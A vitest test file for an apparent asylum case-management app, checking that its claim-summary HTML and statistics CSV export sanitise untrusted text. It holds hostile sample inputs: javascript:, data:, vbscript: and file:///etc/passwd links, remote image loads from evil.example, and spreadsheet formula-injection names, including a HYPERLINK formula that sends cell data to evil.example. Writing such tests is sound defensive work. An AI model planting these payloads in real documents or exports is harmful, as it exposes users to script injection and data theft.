import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { intake } from './factories.js';
import { startTestApp, type TestApp } from './harness.js';

/** Free text and user-named things leaving Haven through files: the claim summary and CSV exports. */
describe('side doors', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(() => t.close());

  it('the downloadable claim summary loads no remote image and keeps no unsafe link', async () => {
    const caseworker = await t.tokenFor('caseworker@haven.local');
    const { case: c } = await intake(t, 'caseworker@haven.local', { case: { grounds: [] } });
    const body = [
      'Photo of the summons: ![x](https://evil.example/p.png)',
      'Reference image: ![scan][pic]',
      '[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x) [d](file:///etc/passwd) <javascript:alert(2)>',
      '[UNHCR](https://www.unhcr.org/)',
      '',
      '[pic]: https://evil.example/ref.png',
    ].join('\n');
    const note = await t.http().post('/api/notes').set('Authorization', caseworker).send({
      caseId: c.id,
      ground: 'political_opinion',
      title: 'Pickets',
      body,
      addGroundToCase: true,
    });
    expect(note.status).toBe(201);
    const html = await t
      .http()
      .get(`/api/cases/${c.id}/claim-summary?format=html`)
      .set('Authorization', caseworker);
    expect(html.status).toBe(200);
    expect(html.text).not.toMatch(/<img/i);
    expect(html.text).not.toContain('evil.example');
    expect(html.text).not.toMatch(/href="(javascript|data|vbscript|file):/i);
    expect(html.text).toContain('Photo of the summons: x');
    expect(html.text).toContain('Reference image: scan');
    expect(html.text).toContain(
      '<a href="https://www.unhcr.org/" target="_blank" rel="noopener noreferrer nofollow">UNHCR</a>',
    );
  });

  it('the statistics CSV neutralises a team name that a spreadsheet would run as a formula', async () => {
    const admin = await t.tokenFor('admin@haven.local');
    const analyst = await t.tokenFor('analyst@haven.local');
    const names = [
      '=cmd',
      '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
      '+1+1',
      '-2',
      '@SUM(A1)',
    ];
    for (const name of names) {
      const team = await t
        .http()
        .post('/api/teams')
        .set('Authorization', admin)
        .send({ name, country: 'GE' });
      expect(team.status, name).toBe(201);
      for (let n = 0; n < 6; n++) {
        const clientId = randomUUID();
        await t.dataSource.query(
          `INSERT INTO client (id, reference, given_name, family_name, sex, nationality) VALUES ($1, $2, 'A', 'B', 'male', 'RU')`,
          [clientId, `CL-X-${randomUUID().slice(0, 8)}`],
        );
        await t.dataSource.query(
          `INSERT INTO legal_case (id, reference, client_id, case_type, jurisdiction, stage, team_id, grounds, military_status, opened_on)
           VALUES ($1, $2, $3, 'asylum', 'GE', 'lodged', $4, '{}', 'unknown', '2024-03-15')`,
          [randomUUID(), `HV-X-${randomUUID().slice(0, 8)}`, clientId, team.body.id],
        );
      }
    }
    const csv = await t
      .http()
      .get('/api/stats/aggregate?dimensions=team&format=csv')
      .set('Authorization', analyst);
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    const lines = csv.text.split('\r\n');
    expect(lines).toContainEqual(expect.stringMatching(/^'=cmd,/));
    expect(lines).toContainEqual(
      expect.stringMatching(/^"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&A1,""Open""\)",/),
    );
    expect(lines).toContainEqual(expect.stringMatching(/^'\+1\+1,/));
    expect(lines).toContainEqual(expect.stringMatching(/^'-2,/));
    expect(lines).toContainEqual(expect.stringMatching(/^'@SUM\(A1\),/));
    // No cell of any line starts a formula (a quoted cell is judged by its content).
    for (const line of lines.filter(Boolean)) {
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(?=,|$)/g) ?? [])
        expect(cell.replace(/^"/, ''), line).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
